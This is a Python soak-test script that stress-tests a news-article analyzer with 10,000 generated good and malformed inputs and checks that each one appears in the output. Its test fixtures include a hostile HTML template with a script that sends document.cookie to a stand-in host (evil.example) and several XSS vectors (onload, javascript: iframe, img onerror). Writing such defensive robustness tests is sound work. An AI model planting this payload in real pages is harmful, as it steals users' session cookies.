"""Soak run: ``analyze`` over 10,000 mixed good and bad inputs; every one must be accounted for.

The inputs are written as files into a temporary folder (nothing goes into
the repository):

* the real scraped news articles of the development data, one ``.txt`` each,
  plus a spun variant (the project's spinner) and a light-edit copy of the
  first 300, in a JSON-lines feed;
* exact duplicate files of 100 of them;
* scraper junk: empty files, binary files, cp1252 and mixed-encoding files,
  non-English articles, hostile HTML pages (scripts, iframes, event
  handlers), a JSON-lines feed with malformed lines, a CSV whose rows miss
  their text cell, one 10 MB page, one-word pages, and thousands of tiny
  one-line articles to reach 10,000 inputs.

It prints the time, the peak memory (max RSS of the process), the count of
inputs per status and reason, and fails (exit 1) if any input is missing
from the output, duplicated, or has a status without a reason.

    python benchmarks/soak.py [--total 10000] [--backend onnx-int8] [--keep-evidence]
"""

from __future__ import annotations

import argparse
import json
import random
import re
import resource
import sys
import tempfile
import time
import warnings
from collections import Counter
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from devdata import data_dir, read_jsonl

from analyzer.analysis import analyze
from analyzer.embed.sentence import SentenceEncoder
from analyzer.pairs.engine import Engine
from analyzer.training.copyedit import light_edit
from analyzer.training.spin.spinner import Spinner

FOREIGN = [
    "Le conseil municipal a voté mardi une hausse de {n} pour cent du budget des écoles, après trois "
    "heures de débat. La maire a déclaré que les travaux commenceront en janvier et dureront deux ans.",
    "Der Stadtrat hat am Dienstag beschlossen, das Budget der Schulen um {n} Prozent zu erhöhen. Die "
    "Bürgermeisterin sagte, die Arbeiten würden im Januar beginnen und zwei Jahre dauern.",
    "El ayuntamiento aprobó el martes un aumento del {n} por ciento del presupuesto escolar tras tres "
    "horas de debate. La alcaldesa dijo que las obras comenzarán en enero y durarán dos años.",
]
HOSTILE = ("<html><head><title>{title}</title><script>fetch('http://evil.example/'+document.cookie)"
           "</script></head><body onload=\"alert(1)\"><iframe src=\"javascript:alert(2)\"></iframe>"
           "<article><h1>{title}</h1>{paragraphs}<img src=x onerror=\"alert(3)\"></article></body></html>")
WORDS = "council mayor vote budget school road river police fire storm market bank court health".split()


def write_inputs(root: Path, total: int, rng: random.Random) -> int:
    """Write the mixed inputs; returns how many articles (files, lines, rows) they hold."""
    news = read_jsonl(data_dir() / "news_articles.jsonl")
    count = 0

    def put(name: str, data: bytes | str) -> None:
        nonlocal count
        path = root / name
        path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
        count += 1

    for rec in news:
        put(f"news_{rec['id']}.txt", rec["text"])
    feed = []
    for i, rec in enumerate(news[:300]):
        spun = Spinner(rate=0.6, double_spin=bool(i % 2), random_state=i).spin(rec["text"]).text
        feed.append({"id": f"spun_{rec['id']}", "text": spun, "source": "Content Farm"})
        feed.append({"id": f"copy_{rec['id']}", "text": light_edit(rec["text"], random_state=i),
                     "source": "Aggregator"})
    (root / "variants.jsonl").write_text("\n".join(json.dumps(r) for r in feed), encoding="utf-8")
    count += len(feed)
    for rec in news[:100]:
        put(f"dup_{rec['id']}.txt", rec["text"])
    for i in range(100):
        put(f"empty_{i}.txt", b"" if i % 2 else b"  \n\n ")
        put(f"binary_{i}.txt", bytes(rng.randrange(256) for _ in range(2000)))
        text = news[i]["text"]
        put(f"cp1252_{i}.txt", text.encode("cp1252", errors="replace"))
        put(f"mixed_{i}.txt", text.encode("utf-8") + "\nCafé Noël à l'été.\n".encode("cp1252"))
        put(f"foreign_{i}.txt", f"Titre {i}\n\n" + FOREIGN[i % 3].format(n=i + 2) * 3)
        paragraphs = "".join(f"<p>{p}</p>" for p in text.split("\n\n")[1:8])
        put(f"hostile_{i}.html", HOSTILE.format(title=f"Page {i} &lt;script&gt;alert(4)&lt;/script&gt;",
                                                paragraphs=paragraphs))
        put(f"oneword_{i}.txt", "Breaking")
    lines = [json.dumps({"id": f"line_{i}", "text": news[i]["text"]}) if i % 2 else '{"id": broken'
             for i in range(100)]
    (root / "malformed.jsonl").write_text("\n".join(lines), encoding="utf-8")
    count += len(lines)
    rows = ["id,title,text"] + [f"row_{i},Title {i}" for i in range(100)]
    (root / "short_rows.csv").write_text("\n".join(rows), encoding="utf-8")
    count += 100
    put("huge.txt", "Huge page\n\n" + "The council met again on Tuesday to vote. " * 240_000)
    tiny = [{"id": f"tiny_{i}", "title": f"Note {i}",
             "text": " ".join(rng.choice(WORDS) for _ in range(rng.randint(1, 9))).capitalize() + "."}
            for i in range(max(0, total - count))]
    (root / "tiny.jsonl").write_text("\n".join(json.dumps(r) for r in tiny), encoding="utf-8")
    return count + len(tiny)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--total", type=int, default=10_000)
    parser.add_argument("--backend", default="torch", choices=["torch", "onnx-int8"])
    parser.add_argument("--keep-evidence", action="store_true",
                        help="keep every pair's evidence tables (the previous behaviour), to compare memory")
    args = parser.parse_args()
    rng = random.Random(0)
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        expected = write_inputs(root, args.total, rng)
        print(f"inputs written: {expected} articles in {len(list(root.iterdir()))} files")
        engine = Engine(encoder=SentenceEncoder(backend=args.backend))
        started = time.perf_counter()
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            analysis = analyze([root], engine=engine, keep_evidence=args.keep_evidence)
        elapsed = time.perf_counter() - started
    arts = analysis.articles
    peak_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    kept = "every pair's evidence kept" if args.keep_evidence else "evidence of derived pairs only"
    print(f"analyze ({kept}): {elapsed:.0f} s, peak memory {peak_mb:,.0f} MB (max RSS), "
          f"{len(caught):,} warnings, "
          f"{analysis.pairs_examined:,} of {analysis.pairs_total:,} pairs examined")
    print(f"inputs in the output: {len(arts):,} of {expected:,}; ids unique: {arts['id'].is_unique}")
    print(arts["status"].value_counts().to_string())
    # "line 7: invalid JSON ..." and "row 3: ..." are grouped by what went wrong, not where.
    reasons = Counter(re.sub(r"^(line|row) \d+: ", r"\1 N: ", str(r))[:70]
                      for r in arts.loc[arts["status"] != "ok", "reason"])
    for reason, n in reasons.most_common():
        print(f"  {n:6,}  {reason}")
    languages = arts.loc[arts["status"] == "ok", "language"].value_counts().head(5)
    print("languages (ok articles):", ", ".join(f"{k}: {v}" for k, v in languages.items()))
    print("relations:", ", ".join(f"{k}: {v}" for k, v in analysis.pairs["relation"].value_counts().items()))
    problems = []
    if len(arts) != expected:
        problems.append(f"{expected - len(arts)} inputs missing from the output")
    if not arts["id"].is_unique:
        problems.append("duplicate ids in the output")
    if arts.loc[arts["status"] != "ok", "reason"].isna().any():
        problems.append("skipped inputs without a reason")
    for problem in problems:
        print("FAIL:", problem)
    return 1 if problems else 0


if __name__ == "__main__":
    sys.exit(main())
